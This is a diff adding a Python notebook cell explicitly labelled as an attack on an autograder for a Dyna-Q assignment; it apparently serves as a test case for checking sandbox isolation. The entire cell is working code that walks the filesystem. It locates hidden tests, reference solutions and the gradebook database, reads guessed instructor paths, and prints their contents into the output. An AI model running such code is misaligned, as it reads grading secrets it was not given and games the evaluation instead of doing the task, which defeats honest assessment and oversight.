@@ -1,0 +1,27 @@
+# attack: find hidden tests, source/ and the gradebook on disk and print them into the output
+# base: untouched
+# cell: dyna_q_model_update
+import os as _os
+_found = 0
+for _root, _dirs, _files in _os.walk("/"):
+    if _root.startswith(("/proc", "/sys", "/dev", "/usr")):
+        _dirs[:] = []
+        continue
+    for _name in _files:
+        if _name.endswith((".ipynb", ".db", ".py", ".json", ".html", ".csv")):
+            _path = _os.path.join(_root, _name)
+            try:
+                with open(_path, "rb") as _f:
+                    _data = _f.read()
+            except Exception:
+                continue
+            if b"HIDDEN TESTS" in _data or b"_reference_" in _data or _name.endswith(".db"):
+                _found += 1
+                print("ATTACK secret file:", _path)
+                print(_data.decode("utf-8", "replace"))
+for _guess in ("../../../source/dyna_q/03_planning.ipynb", "../../../gradebook.db", "/work/main/source/dyna_q/03_planning.ipynb"):
+    try:
+        print("ATTACK guess:", _guess, open(_guess, errors="replace").read())
+    except Exception as _error:
+        print("ATTACK guess failed:", _guess, type(_error).__name__)
+print("ATTACK secrets: files with secrets found:", _found)
